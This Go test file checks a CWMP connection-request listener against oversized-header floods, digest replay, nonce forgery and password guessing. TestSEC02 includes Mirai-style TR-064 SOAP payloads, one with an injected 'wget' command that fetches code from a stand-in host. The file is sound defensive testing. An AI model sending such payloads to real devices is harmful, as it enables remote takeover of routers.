package connreq

// NOTE: the attacks that docs/SECURITY.md lists, each by its number, at the CPE's end of
// HTTP. TestSEC04 is in flood_test.go.

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"crypto/hmac"
	"crypto/sha256"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// long reports whether the long runs are wanted.
func long() bool { return os.Getenv("CWMP_LONG") == "1" }

// times is a number of tries: n, or a thousandth of it where nobody asks for more.
func times(n int) int {
	if long() {
		return n
	}
	return max(n/1000, 1)
}

// SEC-01: what broke RomPager is read in a fixed space and answered 4xx or not at all.
func TestSEC01(t *testing.T) {
	const line = "GET " + path + " HTTP/1.1\r\n"
	attacks := map[string]string{
		"a header of 1 MiB":     line + "X: " + strings.Repeat("a", 1<<20) + "\r\n\r\n",
		"a cookie of 1 MiB":     line + "Cookie: C107373883=" + strings.Repeat("/", 1<<20) + "\r\n\r\n",
		"10,000 cookies":        line + strings.Repeat("Cookie: a=b\r\n", 10_000) + "\r\n",
		"NUL bytes":             line + "X: " + strings.Repeat("\x00", 4096) + "\r\n\r\n",
		"nothing but NUL":       strings.Repeat("\x00", 1<<20),
		"a target of 1 MiB":     "GET /" + strings.Repeat("a", 1<<20) + " HTTP/1.1\r\n\r\n",
		"a method of 1 MiB":     strings.Repeat("G", 1<<20) + " / HTTP/1.1\r\n\r\n",
		"line ends without end": strings.Repeat("\r\n", 1<<19),
		"a name of 1 MiB":       line + strings.Repeat("a", 1<<20) + ": x\r\n\r\n",
		"a digest of 1 MiB":     get(path, `Authorization: Digest username="`+strings.Repeat("a", 1<<20)+`"`),
		"10,000 directives":     get(path, "Authorization: Digest "+strings.Repeat("a=b,", 10_000)),
		"a body of 1 MiB":       get("/x", "Content-Length: 1048576") + strings.Repeat("a", 1<<20),
	}
	for name, attack := range attacks {
		bubble(t, name, func(t *testing.T) {
			p := listen(t, &Listener{})
			p.try(acs, get(path)) // what is made once is made
			var before, after runtime.MemStats
			const conns = 8
			bytes := []byte(attack)
			runtime.ReadMemStats(&before)
			for range conns {
				c := p.peer(acs)
				go c.Write(bytes)
				answer := c.hear()
				assert.Regexp(t, "^(HTTP/1.1 4|$)", answer)
				if answer != "" {
					assert.Empty(t, c.hear(), "closed")
				}
			}
			runtime.ReadMemStats(&after)
			assert.Less(t, (after.TotalAlloc-before.TotalAlloc)/conns, uint64(256<<10), "bytes a connection, the test's own included")
			synctest.Wait()
			assert.False(t, p.woken())
		})
	}
}

// SEC-01 and SEC-02: what the port's code is made of.
func TestSEC01Imports(t *testing.T) {
	forEachFile(t, ".", func(f *ast.File) {
		for _, in := range f.Imports {
			name, _ := strconv.Unquote(in.Path.Value)
			assert.NotContains(t, []string{"C", "unsafe", "os/exec", "net/http", "net/textproto", "plugin", "syscall"}, name)
		}
	})
}

// forEachFile parses the Go files of a directory that are no tests.
func forEachFile(t *testing.T, dir string, f func(*ast.File)) {
	names, err := filepath.Glob(filepath.Join(dir, "*.go"))
	require.NoError(t, err)
	require.NotEmpty(t, names)
	for _, name := range names {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		file, err := parser.ParseFile(token.NewFileSet(), name, nil, parser.SkipObjectResolution)
		require.NoError(t, err)
		f(file)
	}
}

// SEC-02: the envelopes that Mirai and its like post to the port reach nobody, by any
// method and on any path, with right credentials too.
func TestSEC02(t *testing.T) {
	const open = `<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body>`
	const done = `</SOAP-ENV:Body></SOAP-ENV:Envelope>`
	bodies := map[string]string{
		"urn:dslforum-org:service:Time:1#SetNTPServers":                 open + "<u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>`cd /;wget http://x/1`</NewNTPServer1></u:SetNTPServers>" + done,
		"urn:dslforum-org:service:WLANConfiguration:1#GetSecurityKeys":  open + `<u:GetSecurityKeys xmlns:u="urn:dslforum-org:service:WLANConfiguration:1"/>` + done,
		"urn:dslforum-org:service:DeviceConfig:1#Reboot":                open + `<u:Reboot xmlns:u="urn:dslforum-org:service:DeviceConfig:1"/>` + done,
		"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping": open + `<u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"/>` + done,
		"": open + `<cwmp:SetParameterValues xmlns:cwmp="urn:dslforum-org:cwmp-1-0"/>` + done,
		"urn:dslforum-org:service:LANConfigSecurity:1#X_GetAnonymousLogin": open + `<u:X_GetAnonymousLogin xmlns:u="urn:dslforum-org:service:LANConfigSecurity:1"/>` + done,
	}
	bubble(t, "", func(t *testing.T) {
		p := listen(t, &Listener{})
		for action, body := range bodies {
			for _, method := range []string{"POST", "PUT", "HEAD", "OPTIONS", "M-POST", "get"} {
				for _, target := range []string{path, "/", "/UD/act?1", "/tr064/upnp/control/time", "http://192.0.2.1" + path} {
					credentials := auth{nonce: p.nonce(acs), method: method, uri: target}.field()
					want := "404"
					if strings.HasSuffix(target, path) {
						want = "405"
					}
					head := strings.Replace(get(target, "SOAPAction: "+action, credentials, fmt.Sprint("Content-Length: ", len(body))), "GET", method, 1)
					assert.Equal(t, want, p.try(acs, head+body))
				}
			}
		}
		synctest.Wait()
		assert.False(t, p.woken())
	})
}

// SEC-14: a request that was heard on the wire opens nothing when it is played again,
// from wherever and whenever; counts pass once, within a window of 64.
func TestSEC14(t *testing.T) {
	bubble(t, "replay", func(t *testing.T) {
		p := listen(t, &Listener{})
		heard := get(path, auth{nonce: p.nonce(acs)}.field())
		assert.Equal(t, "200", p.try(acs, heard))
		synctest.Wait()
		assert.True(t, p.woken())
		p.gate.End()
		for i := range times(1_000_000) {
			from := fmt.Sprintf("198.51.%d.%d:%d", i%100, i%200, 1+i%60000)
			require.Equal(t, "401", p.try(from, heard))
			if i%100 == 99 {
				pass(time.Second)
			}
		}
		pass(time.Hour)
		assert.Equal(t, "401", p.try(acs, heard))
		synctest.Wait()
		assert.False(t, p.woken())
	})
	bubble(t, "counts", func(t *testing.T) {
		p := listen(t, &Listener{})
		nonce := p.nonce(acs)
		for _, step := range []struct{ nc, want string }{
			{"00000001", "200"}, {"00000001", "401"}, {"00000003", "200"}, {"00000002", "200"}, {"00000002", "401"},
			{"00000040", "200"}, {"00000004", "200"}, {"00000100", "200"}, {"000000c1", "200"}, {"000000c0", "401"}, {"ffffffff", "200"}, {"00000101", "401"},
		} {
			assert.Equal(t, step.want, p.try(acs, get(path, auth{nonce: nonce, nc: step.nc}.field())), step.nc)
		}
	})
	bubble(t, "bound to its target", func(t *testing.T) {
		p := listen(t, &Listener{})
		header := auth{nonce: p.nonce(acs)}.field()
		assert.Equal(t, "401", p.try(acs, get(path+"?x", header)))
		assert.Equal(t, "200", p.try(acs, get(path, header)), "and not spent by that")
	})
	for age, want := range map[time.Duration]string{nonceLifetime: "200", nonceLifetime + 1: "401"} {
		bubble(t, age.String(), func(t *testing.T) {
			p := listen(t, &Listener{})
			nonce := p.nonce(acs)
			pass(age)
			_, answer := p.peer(acs).ask(get(path, auth{nonce: nonce}.field()))
			assert.Equal(t, want, answer[9:12])
			assert.Equal(t, want == "401", strings.Contains(answer, "stale=true"), "the password was right")
		})
	}
}

// SEC-15: no nonce can be made from what is in the source, and none comes twice.
func TestSEC15(t *testing.T) {
	bubble(t, "", func(t *testing.T) {
		p := listen(t, &Listener{})
		keys := map[string]bool{"": true, strings.Repeat("\x00", 32): true}
		for _, dir := range []string{".", "../../internal/digest"} {
			forEachFile(t, dir, func(f *ast.File) {
				for n := range ast.Preorder(f) {
					if lit, ok := n.(*ast.BasicLit); ok && lit.Kind == token.STRING {
						text, _ := strconv.Unquote(lit.Value)
						keys[text] = true
					}
				}
			})
		}
		require.Greater(t, len(keys), 100)
		for key := range keys {
			answer := get(path, auth{nonce: forgedNonce(key)}.field())
			require.Equal(t, "401", p.try(acs, answer), "%q", key)
		}
		seen := map[string]bool{}
		for range times(1_000_000) {
			n := p.nonce(acs)
			require.False(t, seen[n])
			seen[n] = true
		}
		synctest.Wait()
		assert.False(t, p.woken())
	})
}

// forgedNonce is a nonce of now in the form of package digest's, sealed with a key.
func forgedNonce(key string) string {
	b := binary.BigEndian.AppendUint64(nil, uint64(time.Now().UnixNano()))
	b = append(b, "0123456789abcdef"...)
	h := hmac.New(sha256.New, []byte(key))
	h.Write([]byte("cwmp digest nonce 1\x00"))
	h.Write(b)
	h.Write([]byte("cwmp"))
	return base64.RawURLEncoding.EncodeToString(append(b, h.Sum(nil)[:16]...))
}

// SEC-16: the digest header within its limits and one past them. What package digest
// does with any bytes is fuzzed there.
func TestSEC16(t *testing.T) {
	more := func(n int) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, ", x%d=y", i)
		}
		return b.String()
	}
	tests := map[string]struct {
		auth auth
		more string
		want string
	}{
		"16 directives":    {auth{}, more(8), "200"},
		"17 directives":    {auth{}, more(9), "401"},
		"a value of 512":   {auth{cnonce: strings.Repeat("c", 512)}, "", "200"},
		"a value of 513":   {auth{cnonce: strings.Repeat("c", 513)}, "", "401"},
		"an unknown twice": {auth{}, ", x=1, x=1", "401"},
		"the uri twice":    {auth{}, ", uri=\"/\"", "401"},
		"another case":     {auth{}, ", URI=\"/\"", "401"},
		"a quote unclosed": {auth{}, ", x=\"", "401"},
		"escapes":          {auth{}, `, x="\"\\"`, "200"},
		"text behind":      {auth{}, ` x`, "401"},
	}
	for name, tt := range tests {
		bubble(t, name, func(t *testing.T) {
			p := listen(t, &Listener{})
			tt.auth.nonce = p.nonce(acs)
			assert.Equal(t, tt.want, p.try(acs, get(path, tt.auth.field()+tt.more)))
		})
	}
}

// SEC-18: past ten wrong guesses a minute, each answer to one more takes a second, and
// a right one takes none, from the same address or another.
func TestSEC18(t *testing.T) {
	bubble(t, "", func(t *testing.T) {
		p := listen(t, &Listener{})
		nonce := p.nonce(acs)
		guess := func(from, guess string) time.Duration {
			return took(func() {
				assert.Equal(t, "401", p.try(from, get(path, auth{nonce: nonce, password: guess}.field())))
			})
		}
		nc := 0
		valid := func(from string) time.Duration {
			nc++
			return took(func() {
				assert.Equal(t, "200", p.try(from, get(path, auth{nonce: nonce, nc: fmt.Sprintf("%08x", nc)}.field())))
			})
		}
		for i := range guessesFree {
			assert.Zero(t, guess(acs, fmt.Sprint(i)))
		}
		for range 20 {
			assert.Equal(t, guessesHold, guess(acs, "x"))
			assert.Zero(t, valid(acs), "who knows the password is not locked out")
		}
		assert.Zero(t, took(func() { p.nonce(acs) }), "asking for a challenge is no guess")
		assert.Zero(t, valid("192.0.2.10:1"))
		assert.Zero(t, guess("192.0.2.10:1", "x"))
		pass(time.Minute)
		nonce, nc = p.nonce(acs), 0
		assert.Zero(t, guess(acs, "x"))
	})
	bubble(t, "with guesses in every place", func(t *testing.T) {
		p := listen(t, &Listener{})
		nonce := p.nonce(acs)
		for range 40 {
			p.peer(acs).say(get(path, auth{nonce: nonce, password: "x"}.field()))
			synctest.Wait()
		}
		assert.LessOrEqual(t, len(p.listener.visits.open), DefaultPerAddr)
		assert.Equal(t, "200", p.try(acs, get(path, auth{nonce: nonce}.field())))
	})
	bubble(t, "from many addresses", func(t *testing.T) {
		p := listen(t, &Listener{})
		nonce := p.nonce(acs)
		guess := func(n int) {
			p.peer(fmt.Sprintf("198.51.100.%d:1", n%6)).say(get(path, auth{nonce: nonce, password: "x"}.field()))
			synctest.Wait()
		}
		for n := range 200 {
			guess(n)
			pass(time.Millisecond)
		}
		assert.Len(t, p.listener.visits.open, DefaultConns)
		c := p.peer(acs)
		for n := range DefaultConns - 1 {
			guess(n)
		}
		status, _ := c.ask(get(path, auth{nonce: nonce}.field()))
		assert.Equal(t, "200", status, "guesses make place for each other, not for who has yet to speak")
	})
	bubble(t, "a table that is full", func(t *testing.T) {
		var g guesses
		random := rand.New(rand.NewPCG(7, 8))
		for i := range 10 * guessesKept {
			g.wrong(placeOf(addr(fmt.Sprintf("10.%d.%d.%d:1", i%256, i/256, random.IntN(256)))))
			require.LessOrEqual(t, len(g.by), guessesKept)
			pass(time.Microsecond)
		}
	})
}
